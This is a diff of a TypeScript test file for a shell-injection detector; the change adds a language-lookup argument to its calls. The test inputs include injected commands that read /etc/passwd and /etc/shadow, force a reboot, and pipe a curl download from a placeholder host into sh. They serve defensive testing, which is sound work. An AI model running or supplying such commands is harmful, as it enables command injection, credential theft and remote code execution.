@@ -2,18 +2,19 @@ import { describe, expect, it } from 'vitest';
 import { harmlessChecks, harmlessCommands } from '../../test/fakes/harmless-commands.ts';
 import { harmlessGrammars } from '../../test/fakes/harmless-grammars.ts';
 import { harmlessValues } from '../../test/fakes/harmless-values.ts';
+import { findLanguage } from '../../test/fakes/languages.ts';
 import { findInValue } from './find-in-value.ts';
 import { judgeScript } from './shell/judge-script.ts';
 
 const rules = (value: string, strictness: 1 | 2 = 1): readonly string[] =>
-  findInValue(value, strictness).marks.map(({ rule }) => rule.slice('input/'.length));
+  findInValue(value, strictness, findLanguage).marks.map(({ rule }) => rule.slice('input/'.length));
 
 describe('what is harmless', () => {
   it.each([...harmlessValues, ...harmlessGrammars])('%s', (value) => {
-    expect(findInValue(value, 1).marks).toEqual([]);
+    expect(findInValue(value, 1, findLanguage).marks).toEqual([]);
   });
   it.each(harmlessCommands.filter((command) => !/^(?:\/bin\/|ba)?sh -c|^tail|^sleep/.test(command)))('%s', (value) => {
-    expect(findInValue(value, 1).marks).toEqual([]);
+    expect(findInValue(value, 1, findLanguage).marks).toEqual([]);
   });
   it.each(harmlessChecks)('in a shell: %s', (value) => {
     expect(judgeScript(value)).toEqual([]);
@@ -34,7 +35,7 @@ describe('shell in a value', () => {
     ['a command that reads it', 'web; cat /etc/passwd', undefined],
     ['a command in one part, the path in another', '{"a":"/etc/shadow","b":"x; reboot"}', undefined],
   ])('weighs as its worst part, with a file of accounts: %s', (_, value, severity) => {
-    const [mark] = findInValue(value, 1).marks;
+    const [mark] = findInValue(value, 1, findLanguage).marks;
     expect([mark?.rule, mark?.severity]).toEqual(['input/shell-injection', severity]);
   });
   it.each([
@@ -221,7 +222,7 @@ describe('code in a value', () => {
 });
 
 it('shows nothing of a value', () => {
-  const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2);
+  const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2, findLanguage);
   expect(marks.length).toBeGreaterThan(1);
   expect(JSON.stringify(marks)).not.toContain('hunter2secret');
 });
